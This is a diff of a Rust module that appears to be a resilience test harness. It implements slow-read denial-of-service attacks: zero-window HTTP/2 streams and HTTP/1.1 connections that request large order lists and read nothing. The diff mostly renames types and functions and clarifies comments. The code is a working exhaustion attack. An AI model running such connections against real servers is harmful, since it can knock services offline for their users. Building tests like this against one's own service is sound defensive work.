@@ -1,6 +1,6 @@
-//! Connections that request much and take nothing, over HTTP/1.1 and HTTP/2.
+//! Connections that request large responses and read nothing, over HTTP/1.1 and HTTP/2.
 //!
-//! HTTP/2 is written frame by frame: no client has a window of zero and goes on answering pings.
+//! HTTP/2 is written frame by frame, because no client library answers pings with a window of zero.
 
 use std::{
     net::SocketAddr,
@@ -22,7 +22,7 @@ use crate::wire::request;
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Attack {
-    /// Three connections with 128 streams each and a window of zero.
+    /// 3 connections with 128 streams each and a window of zero.
     Http2,
     /// 200 connections that send a request for a list and read nothing.
     Http1,
@@ -48,30 +48,30 @@ impl Attack {
     }
 }
 
-/// Ends its connections when it is dropped.
-pub struct Held {
+/// Open connections of an attack. Dropping it closes them.
+pub struct AttackConnections {
     tasks: Vec<JoinHandle<()>>,
     open: Arc<AtomicUsize>,
 }
 
-impl Held {
-    pub fn begun(&self) -> usize {
+impl AttackConnections {
+    pub fn total(&self) -> usize {
         self.tasks.len()
     }
 
-    /// Connections that the other side has not closed.
+    /// Number of connections that the server has not closed.
     pub fn open(&self) -> usize {
         self.open.load(Ordering::Relaxed)
     }
 }
 
-impl Drop for Held {
+impl Drop for AttackConnections {
     fn drop(&mut self) {
         self.tasks.iter().for_each(JoinHandle::abort);
     }
 }
 
-pub async fn begin(attack: Attack, address: SocketAddr, key: &str, listed: usize) -> anyhow::Result<Held> {
+pub async fn start(attack: Attack, address: SocketAddr, key: &str, listed: usize) -> anyhow::Result<AttackConnections> {
     let list = format!("/v1/orders?limit={listed}");
     let bytes = match attack {
         Attack::Http2 => http2_requests(&list, key),
@@ -96,16 +96,16 @@ pub async fn begin(attack: Attack, address: SocketAddr, key: &str, listed: usize
         tasks.push(tokio::spawn(async move {
             open.fetch_add(1, Ordering::Relaxed);
             // The result does not matter: the connection is closed.
-            let _ = hold(attack, address, &bytes).await;
+            let _ = run_connection(attack, address, &bytes).await;
             open.fetch_sub(1, Ordering::Relaxed);
         }));
     }
-    Ok(Held { tasks, open })
+    Ok(AttackConnections { tasks, open })
 }
 
-async fn hold(attack: Attack, address: SocketAddr, bytes: &[u8]) -> anyhow::Result<()> {
+async fn run_connection(attack: Attack, address: SocketAddr, bytes: &[u8]) -> anyhow::Result<()> {
     let socket = TcpSocket::new_v4()?;
-    // Unread bytes must not lie in a large buffer of this side.
+    // Unread bytes must not fit into the receive buffer of this side.
     socket.set_recv_buffer_size(16 << 10)?;
     let mut stream = socket.connect(address).await?;
     stream.write_all(bytes).await?;
@@ -115,7 +115,7 @@ async fn hold(attack: Attack, address: SocketAddr, bytes: &[u8]) -> anyhow::Resu
     }
 }
 
-/// Polls without reading: a closed connection reports an error or an end once the buffer is empty.
+/// Polls without reading: a closed connection reports an error, or its end after the buffer is empty.
 async fn wait_for_end(stream: TcpStream) -> anyhow::Result<()> {
     loop {
         tokio::time::sleep(std::time::Duration::from_millis(500)).await;
@@ -156,7 +156,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     bytes
 }
 
-/// Preface, a window of zero for every stream, and 128 requests.
+/// Encodes the preface, a window of zero for every stream, and 128 requests.
 fn http2_requests(path: &str, key: &str) -> Vec<u8> {
     let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     let window_of_zero = [0, 4, 0, 0, 0, 0];
@@ -165,7 +165,7 @@ fn http2_requests(path: &str, key: &str) -> Vec<u8> {
         into.push(text.len() as u8);
         into.extend(text.bytes());
     };
-    // HPACK without a table: GET, http, then names by their number (:authority 1, :path 4, authorization 23).
+    // HPACK without a dynamic table: GET, http, then names by their index (:authority 1, :path 4, authorization 23).
     let mut head = vec![0x82, 0x86, 0x01];
     text(&mut head, "localhost");
     head.push(0x04);
